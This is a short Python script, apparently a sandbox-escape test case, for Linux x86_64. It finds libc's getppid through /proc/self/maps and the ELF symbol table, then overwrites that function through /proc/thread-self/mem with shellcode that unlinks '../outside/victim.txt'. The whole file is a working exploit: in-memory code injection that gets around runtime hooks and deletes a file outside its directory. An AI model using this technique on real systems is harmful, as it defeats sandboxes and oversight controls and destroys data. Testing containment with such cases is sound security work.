# A function of the system's library becomes another in memory, and is called.
# damage: deleted
# needs: linux, x86_64
import os
import struct


def symbol(library, name):
    """The address of a function of a library."""
    with open("/proc/self/maps") as file:
        lines = [line.split() for line in file]
    for parts in lines:
        if len(parts) == 6 and library in os.path.basename(parts[5]) and parts[2] == "00000000":
            base, path = int(parts[0].split("-")[0], 16), parts[5]
            break
    with open(path, "rb") as file:
        image = file.read()
    table, size, count = struct.unpack_from("<40xQ10xHH", image)
    headers = [struct.unpack_from("<IIQQQQIIQQ", image, table + size * n) for n in range(count)]
    for header in headers:
        if header[1] == 11:
            strings = headers[header[6]][4]
            for entry in range(header[4], header[4] + header[5], 24):
                text, value = struct.unpack_from("<I4xQ", image, entry)
                if value and image.startswith(name + b"\0", strings + text):
                    return base + value


# lea rdi, [rip + 8]; mov eax, 87; syscall; ret; the path
CODE = b"\x48\x8d\x3d\x08\x00\x00\x00\xb8\x57\x00\x00\x00\x0f\x05\xc3../outside/victim.txt\0"
memory = os.open("/proc/thread-self/mem", os.O_RDWR)
os.pwrite(memory, CODE, symbol("libc", b"getppid"))
os.getppid()
